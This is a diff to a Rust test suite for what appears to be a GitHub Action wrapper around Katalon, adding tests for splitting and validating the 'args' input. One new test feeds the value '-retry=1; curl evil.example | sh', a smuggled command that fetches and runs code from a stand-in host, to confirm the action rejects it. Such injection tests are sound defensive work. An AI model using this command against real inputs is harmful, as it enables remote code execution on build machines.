@@ -167,7 +167,9 @@ fn outputs(ws: &Workspace) -> BTreeMap<String, String> {
 }
 
 fn split(line: &str) -> Vec<String> {
-    katalon_prep::katalonc::quote::split_shell(line).unwrap()
+    let split = katalon_prep::katalonc::split::split(line).unwrap();
+    assert_eq!(split.rest, None, "one command");
+    split.words.into_iter().map(|w| w.text).collect()
 }
 
 #[test]
@@ -350,10 +352,30 @@ fn the_action_rejects_a_boolean_input_that_is_neither_true_nor_false() {
 }
 
 #[test]
+fn the_action_rejects_shell_syntax_in_args() {
+    let (ws, _) = with_remote();
+    on_github(&ws)
+        .arg("github-action")
+        .env("INPUT_ARGS", "-retry=1; curl evil.example | sh")
+        .assert()
+        .code(10)
+        .stderr(predicates::str::contains("The action input `args` holds shell syntax"));
+}
+
+#[test]
+fn the_action_accepts_args_over_several_lines() {
+    let (ws, _) = with_remote();
+    on_github(&ws).arg("github-action").env("INPUT_ARGS", "-retry=1\n-statusDelay=30\n").assert().success();
+    let args = outputs(&ws)["args"].clone();
+    let words = split(&args);
+    assert!(words.contains(&"-retry=1".to_string()) && words.contains(&"-statusDelay=30".to_string()), "{args}");
+}
+
+#[test]
 fn the_action_rejects_args_that_do_not_split() {
     let (ws, _) = with_remote();
     on_github(&ws).arg("github-action").env("INPUT_ARGS", "-g_x='open").assert().code(10).stderr(
-        predicates::str::contains("The action input `args` cannot be split into options: a single quote is not closed"),
+        predicates::str::contains("The action input `args` cannot be split into options: unterminated single quote"),
     );
 }
 
